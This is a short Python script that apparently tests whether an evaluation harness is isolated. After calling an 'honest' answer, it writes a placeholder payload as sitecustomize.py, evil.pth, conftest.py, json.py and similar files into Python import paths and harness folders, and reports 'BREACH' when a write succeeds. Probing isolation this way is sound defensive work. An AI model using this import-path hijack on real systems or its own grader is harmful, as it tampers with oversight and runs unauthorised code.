"""Plants code where a later Python would load it."""

from __future__ import annotations

import glob
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from honest import answer

answer()
code = "print('owned')"
PLACES = ("/venv/lib/python*/site-packages", "/python/lib/python*", "/usr/lib/python*")
folders = [folder for place in PLACES for folder in glob.glob(place)]
for folder in [*folders, "/harness", "/in", "/scratch", "/out"]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "outputs.py", "json.py"):
        try:
            Path(folder, name).write_text(code)
            if folder not in ("/scratch", "/out"):
                print("BREACH wrote", folder, name)
        except OSError:
            continue
